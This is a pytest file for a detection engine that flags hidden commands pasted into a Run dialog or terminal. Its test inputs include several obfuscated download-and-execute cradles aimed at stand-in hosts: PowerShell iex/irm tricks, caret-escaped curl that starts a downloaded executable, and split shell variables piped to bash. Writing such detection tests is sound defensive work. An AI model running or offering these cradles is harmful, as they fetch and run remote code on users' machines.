"""The engine reads commands through the interpreters: layers the rules see, behaviours they use."""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.analysis import Analysis
from app.detection.interpret import Behaviour


def test_an_alias_wildcard_cradle_is_blocked_and_shows_what_it_runs(engine: Engine) -> None:
    verdict = engine.analyze("& (gal i*x) (irm ('https://upd'+'ate-portal.example/x'))")
    assert verdict.level is Level.MALICIOUS
    assert "PG-DO-HIDDEN-COMMAND" in verdict.rule_ids
    interpreted = [x.text for x in verdict.layers if x.name == "interpreted"]
    assert any(
        "Invoke-Expression" in t and "https://update-portal.example/x" in t for t in interpreted
    )
    # the address the command hides is an indicator the user and the log can see
    assert any(i.value == "https://update-portal.example/x" for i in verdict.indicators)


@pytest.mark.parametrize(
    "text",
    [
        "& (dir \\W*\\*32\\c??l.e*) -s https://upd.example/a -o $env:TEMP\\a.exe; saps $env:TEMP\\a.exe",
        "$r='x/elpmaxe.dpu//:sptth'; iex (irm (-join $r[-1..-30]))",
        'c^u^r^l -s -o %TEMP%\\a.exe https://upd.example/a & s^t^a^r^t "" %TEMP%\\a.exe',
        "a=cu;b=rl;c=ba;d=sh; $a$b -s https://upd.example/a | $c$d",
    ],
)
def test_hidden_commands_pasted_into_the_run_box_or_a_terminal_are_blocked(
    engine: Engine, text: str
) -> None:
    target = PasteTarget.TERMINAL if text.startswith("a=") else PasteTarget.RUN_DIALOG
    verdict = engine.analyze(text, Context(source="https://verify-human.example/", target=target))
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids


def test_behaviours_are_on_the_analysis_for_signals(engine: Engine) -> None:
    seen: list[Analysis] = []
    from app.detection import signals

    def spy(a: Analysis) -> list[str]:
        seen.append(a)
        return []

    # a signal with no need, so the engine calls it on every text ("context" it never calls)
    original = signals.SIGNALS["deep-encoding"]
    signals.SIGNALS["deep-encoding"] = spy
    try:
        engine.analyze("$u='https://upd.example/'+'s'; iex (irm $u)")
    finally:
        signals.SIGNALS["deep-encoding"] = original
    assert seen and Behaviour.RUNS_DOWNLOADED in seen[0].behaviours
    assert seen[0].behaviours[Behaviour.RUNS_DOWNLOADED] == ["https://upd.example/s"]


def test_a_plain_installer_line_is_not_read_twice(engine: Engine) -> None:
    verdict = engine.analyze("curl -fsSL https://get.example.com/install.sh | sh")
    assert not [x for x in verdict.layers if x.name == "interpreted"]
    assert not [r for r in verdict.rule_ids if r.startswith("PG-DO-")]
